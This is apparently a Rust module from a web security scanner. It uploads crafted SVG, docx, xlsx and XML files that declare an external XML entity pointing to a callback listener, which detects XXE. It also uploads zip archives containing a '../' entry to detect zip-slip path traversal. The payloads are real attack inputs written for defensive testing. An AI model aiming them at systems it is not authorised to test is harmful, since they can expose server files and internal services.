//! Whether what is inside an uploaded file is followed: entities of XML in a picture or an office document (CWE-611), and names with
//! `../` in an archive (CWE-22).
//!
//! `entity`, where the probe can be reached from the target:
//! 1. A picture (SVG), a text document (docx), a table (xlsx) and a plain XML document declare an entity for our listener, each with a
//!    word of its own. Whoever asks there read it.
//! 2. It is proven when the same kind with a new word is asked for too. Negative twin: the address as a comment and a plain
//!    text, which nobody must fetch.
//!
//! `slip`:
//! 1. Control: an archive with one file is taken, and that file is found again.
//! 2. An archive has the same and a file named `../NAME`. It is proven when that one is then a directory higher than the control was.
//!    Negative twin: the file of the control is not there.

use std::time::Duration;

use gabion_model::Severity;
use gabion_model::outbound::BoxFuture;

use super::uploads::{Aim, File, aims};
use super::{Attack, Phase, usable};
use crate::archive::zip;
use crate::catch::Catch;
use crate::field::Field;
use crate::verdict::{Outcome, Proof, Verdict};
use crate::wire::{Answer, Request, WireError};

pub(super) struct UploadContents;

const ID: &str = "upload-contents";

impl Attack for UploadContents {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Write
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(run(field))
    }
}

async fn run(field: &Field) -> Result<(), WireError> {
    for aim in aims(field, ID) {
        let entity = entities(&aim).await?;
        let slip = slips(&aim).await?;
        aim.say_where_nothing(entity, slip);
    }
    Ok(())
}

/// What a part of the test came to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Came {
    Found,
    /// Files were taken, and nothing came of it.
    Nothing,
    /// No file of that kind was taken.
    Refused,
}

impl Aim<'_> {
    fn say_where_nothing(&self, entity: Came, slip: Came) {
        if entity == Came::Found || slip == Came::Found {
            return;
        }
        let (verdict, says) = if (entity, slip) == (Came::Refused, Came::Refused) {
            (Verdict::NotTested, "neither documents nor archives are taken, or nothing listens for callbacks")
        } else {
            (Verdict::Passed, "nothing that a file has inside was followed")
        };
        self.field.say(Outcome::new(ID, &self.operation(), verdict, says));
    }

    /// Whether it was taken.
    pub(super) async fn give(&self, file: &File) -> Result<Option<(Request, Answer)>, WireError> {
        let sent = self.send(self.attempt.who, file).await?;
        Ok(sent.filter(|(_, answer)| answer.is_success() || answer.is_redirect()))
    }
}

/// Kinds of files with XML in them: their ending, their type, and what people call them.
const KINDS: &[(&str, &str, &str)] = &[
    ("svg", "image/svg+xml", "a picture (SVG)"),
    (
        "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "a text document (docx)",
    ),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "a table (xlsx)"),
    ("xml", "text/xml", "an XML document"),
];
/// How long somebody may take to ask, after the last file.
const PATIENCE: Duration = Duration::from_millis(900);

async fn entities(aim: &Aim<'_>) -> Result<Came, WireError> {
    let Some(catch) = &aim.field.catch else { return Ok(Came::Refused) };
    let came = fetched(aim, catch, false).await?;
    if came == Came::Nothing && catch.names().is_some() {
        return fetched(aim, catch, true).await;
    }
    Ok(came)
}

/// By the address of the listener, or by a name of its zone.
async fn fetched(aim: &Aim<'_>, catch: &Catch, named: bool) -> Result<Came, WireError> {
    let url = |word: &str| catch.url_by_name(word).filter(|_| named).unwrap_or_else(|| catch.url(word));
    let mut given = Vec::new();
    for kind in KINDS {
        let word = Catch::word(&*aim.field.rng);
        let file = document(aim, kind, &url(&word), true);
        if let Some(sent) = aim.give(&file).await? {
            given.push((kind, word, sent));
        }
    }
    let Some((_, last, _)) = given.last() else { return Ok(Came::Refused) };
    catch.met(last, PATIENCE).await;
    for (kind, word, sent) in &given {
        if catch.met(word, Duration::ZERO).await.is_none() {
            continue;
        }
        let plain = Catch::word(&*aim.field.rng);
        let Some(twin) = aim.give(&document(aim, kind, &url(&plain), false)).await? else { continue };
        let again = Catch::word(&*aim.field.rng);
        let repeated = aim.give(&document(aim, kind, &url(&again), true)).await?;
        let asked = catch.met(&again, PATIENCE.saturating_mul(2)).await;
        let (Some(_), Some(line)) = (repeated, asked) else { continue };
        if catch.met(&plain, Duration::ZERO).await.is_some() {
            continue;
        }
        let says = format!("{} is read by a reader of XML that fetches what it names", kind.2);
        let who = aim.attempt.who;
        let proof =
            Proof::new(aim.field.evidence(who, &sent.0, &sent.1), format!("our listener got `{line}`"))
                .twin(aim.field.evidence(who, &twin.0, &twin.1))
                .by_steps();
        let outcome = Outcome::new(ID, &aim.operation(), Verdict::Proven, says).aspect("entity");
        aim.field.say(outcome.severity(Severity::High).proof(proof));
        return Ok(Came::Found);
    }
    Ok(Came::Nothing)
}

/// A file of that kind with an entity for an address, or (without `entity`) with the address as a comment and a text.
fn document(aim: &Aim<'_>, kind: &(&'static str, &'static str, &str), url: &str, entity: bool) -> File {
    let word = aim.field.canary();
    let head = |root: &str| {
        let declared = if entity {
            format!("<!DOCTYPE {root} [<!ENTITY e SYSTEM \"{url}\">]>")
        } else {
            format!("<!-- {url} -->")
        };
        format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>{declared}")
    };
    let text = if entity { "&e;" } else { url };
    let content = written(kind.0, &head, text, &word);
    File { name: format!("{word}.{}", kind.0), media_type: kind.1, content, word }
}

/// The least of a file that readers of its kind take, with a text in it. `head` is what stands before a root of that name.
fn written(kind: &str, head: &dyn Fn(&str) -> String, text: &str, word: &str) -> Vec<u8> {
    const OFFICE: &str = "http://schemas.openxmlformats.org";
    let part = |name: &str, content: String| (name.to_owned(), content.into_bytes());
    let plain = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    let types = |part: &str, kind: &str| {
        format!(
            "{plain}<Types xmlns=\"{OFFICE}/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/{part}\" ContentType=\"application/vnd.openxmlformats-officedocument.{kind}.main+xml\"/></Types>"
        )
    };
    let leads = |kind: &str, to: &str| {
        format!(
            "{plain}<Relationships xmlns=\"{OFFICE}/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"{OFFICE}/officeDocument/2006/relationships/{kind}\" Target=\"{to}\"/></Relationships>"
        )
    };
    // What every office document has: its types, where it begins, and that.
    let package = |main: &str, kind: &str, body: String, rest: Vec<(String, Vec<u8>)>| {
        let mut parts = vec![
            part("[Content_Types].xml", types(main, kind)),
            part("_rels/.rels", leads("officeDocument", main)),
            part(main, body),
        ];
        parts.extend(rest);
        zip(&parts)
    };
    match kind {
        "svg" => {
            let picture = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\">";
            format!("{}{picture}<title>{word}</title><text>{text}</text></svg>", head("svg")).into_bytes()
        }
        "docx" => {
            let body = format!(
                "{}<w:document xmlns:w=\"{OFFICE}/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>{word} {text}</w:t></w:r></w:p></w:body></w:document>",
                head("w:document")
            );
            package("word/document.xml", "wordprocessingml.document", body, Vec::new())
        }
        "xlsx" => {
            let main = format!("{OFFICE}/spreadsheetml/2006/main");
            let book = format!(
                "{}<workbook xmlns=\"{main}\" xmlns:r=\"{OFFICE}/officeDocument/2006/relationships\"><sheets><sheet name=\"{text}\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>",
                head("workbook")
            )
            // An attribute must not name what is outside.
            .replace("name=\"&e;\"", "name=\"one\"");
            let sheet = format!(
                "{}<worksheet xmlns=\"{main}\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{word} {text}</t></is></c></row></sheetData></worksheet>",
                head("worksheet")
            );
            let rest = vec![
                part("xl/_rels/workbook.xml.rels", leads("worksheet", "worksheets/sheet1.xml")),
                part("xl/worksheets/sheet1.xml", sheet),
            ];
            package("xl/workbook.xml", "spreadsheetml.sheet", book, rest)
        }
        _ => format!("{}<notes><note>{word} {text}</note></notes>", head("notes")).into_bytes(),
    }
}

/// An archive whose file is found again, and where.
pub(super) struct Unpacked {
    request: Request,
    answer: Answer,
    pub(super) path: String,
    pub(super) got: Answer,
}

/// A file of one's own in an archive.
pub(super) fn inner(aim: &Aim<'_>) -> (String, Vec<u8>) {
    let word = aim.field.canary();
    (format!("{word}.txt"), format!("notes of {word}\n").into_bytes())
}

fn archive(aim: &Aim<'_>, files: &[(String, Vec<u8>)]) -> File {
    let word = aim.field.canary();
    File { name: format!("{word}.zip"), media_type: "application/zip", content: zip(files), word }
}

async fn slips(aim: &Aim<'_>) -> Result<Came, WireError> {
    let one = inner(aim);
    let Some((request, answer)) = aim.give(&archive(aim, std::slice::from_ref(&one))).await? else {
        return Ok(Came::Refused);
    };
    let Some(control) = unpacked(aim, request, answer, &one).await? else { return Ok(Came::Nothing) };
    let Some((directory, _)) = control.path.rsplit_once('/') else { return Ok(Came::Nothing) };
    let Some((above, _)) = directory.rsplit_once('/') else { return Ok(Came::Nothing) };
    let above = |name: &str| Request::get(&format!("{above}/{name}"));
    let (inside, other) = (inner(aim), inner(aim));
    let climbing = (format!("../{}", other.0), other.1.clone());
    let Some((request, answer)) = aim.give(&archive(aim, &[inside.clone(), climbing])).await? else {
        return Ok(Came::Nothing);
    };
    let look = above(&other.0);
    let Some(got) = aim.holds(&look, &other.1).await? else { return Ok(Came::Nothing) };
    if aim.holds(&above(&one.0), &one.1).await?.is_some()
        || aim.holds(&above(&inside.0), &inside.1).await?.is_some()
    {
        return Ok(Came::Nothing);
    }
    let who = aim.attempt.who;
    let says = "an archive puts a file with `../` in its name outside of where it is unpacked";
    let proof = Proof::new(
        aim.field.evidence(who, &request, &answer),
        format!("`{}` is there, and belongs to the archive", look.target),
    )
    .twin(aim.field.evidence(who, &control.request, &control.answer))
    .shown(aim.field.evidence(who, &look, &got))
    .shown(aim.field.evidence(who, &Request::get(&control.path), &control.got));
    let outcome = Outcome::new(ID, &aim.operation(), Verdict::Proven, says).aspect("slip");
    aim.field.say(outcome.severity(Severity::High).proof(proof));
    Ok(Came::Found)
}

/// Where the file of an archive is.
pub(super) async fn unpacked(
    aim: &Aim<'_>,
    request: Request,
    answer: Answer,
    file: &(String, Vec<u8>),
) -> Result<Option<Unpacked>, WireError> {
    for path in aim.places(&answer, &file.0) {
        if let Some(got) = aim.holds(&Request::get(&path), &file.1).await? {
            return Ok(Some(Unpacked { request, answer, path, got }));
        }
    }
    Ok(None)
}

impl Aim<'_> {
    /// The answer, where it is that very content.
    async fn holds(&self, request: &Request, content: &[u8]) -> Result<Option<Answer>, WireError> {
        let got = usable(self.field.request(self.attempt.who, request).await)?;
        Ok(got.filter(|got| got.is_success() && got.body == content))
    }
}
